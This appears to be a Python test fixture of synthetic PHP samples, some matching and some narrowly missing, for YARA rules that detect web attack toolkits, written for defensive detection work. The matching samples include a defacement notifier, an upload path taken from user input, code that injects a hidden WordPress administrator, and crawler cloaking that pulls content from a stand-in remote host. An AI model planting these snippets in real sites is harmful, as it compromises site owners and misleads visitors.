"""Must-hit / near-miss samples for the issue-4f rules in `signatures/toolkits.yar`.

Small synthetic PHP written for the tests; no corpus excerpts. The near-miss is a security
news page that links to a defacement archive without posting to its notify form.
"""

from __future__ import annotations

NOTIFIER = (
    b"<?php\n$ch = curl_init('http://www.zone-h.org/notify/single');\n"
    b"curl_setopt($ch, CURLOPT_POSTFIELDS, 'defacer=' . $_POST['nick'] . '&domain1=' . $site"
    b" . '&hackmode=1');\ncurl_exec($ch);\n"
)
NOTIFIER_NEAR = (
    b"<?php\n// news: see the report archived at zone-h.org/notify statistics\n"
    b"$feed = file_get_contents('https://news.example.org/feed');\n"
    b"echo '<p>Defacement statistics per domain</p>';\n"
)

UPLOAD_TARGET = (
    b"<?php\n$target = $_POST['dir'] . '/' . basename($_FILES['f']['name']);\n"
    b"if (move_uploaded_file($_FILES['f']['tmp_name'], $target)) echo 'ok';\n"
)
UPLOAD_TARGET_NEAR = (
    b"<?php\n$title = $_POST['title'];\n"
    b"$target = UPLOAD_DIR . '/' . md5($title) . basename($_FILES['f']['name']);\n"
    b"move_uploaded_file($_FILES['f']['tmp_name'], $target);\n"
)

ADMIN_INJECT = (
    b"<?php\ninclude '../wp-config.php';\n$c = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n"
    b"mysqli_query($c, \"INSERT INTO wp_users (user_login, user_pass) VALUES ('x', MD5('x'))\");\n"
    b'$id = mysqli_insert_id($c);\nmysqli_query($c, "INSERT INTO wp_usermeta (user_id, meta_key, meta_value)'
    b" VALUES ($id, 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");\n"
)
ADMIN_INJECT_NEAR = (
    b"<?php\n// data import: copy newsletter subscribers into the users table\n"
    b"include 'config/database.php';\n$pdo = new PDO($dsn, $user, $pass);\n"
    b"$pdo->exec(\"INSERT INTO users (email, role) SELECT email, 'subscriber' FROM subscribers\");\n"
)

CLOAK_UA_VAR = (
    b"<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
    b"if (strpos($ua, 'googlebot') !== false) {\n"
    b"  echo file_get_contents('http://links.example.invalid/get.php?d=' . $_SERVER['HTTP_HOST']);\n"
    b"  exit;\n}\n"
)
CLOAK_UA_VAR_NEAR = (
    b"<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
    b"if (strpos($ua, 'googlebot') !== false) { $cache_ttl = 3600; }\n"
    b"$canonical = 'https://' . $_SERVER['HTTP_HOST'] . '/';\n"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER, True),
    ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER_NEAR, False),
    ("SPAMGEAR_TOOLKIT_UploadTargetFromInput", UPLOAD_TARGET, True),
    ("SPAMGEAR_TOOLKIT_UploadTargetFromInput", UPLOAD_TARGET_NEAR, False),
    ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT, True),
    ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT_NEAR, False),
    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_UA_VAR, True),
    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_UA_VAR_NEAR, False),
]
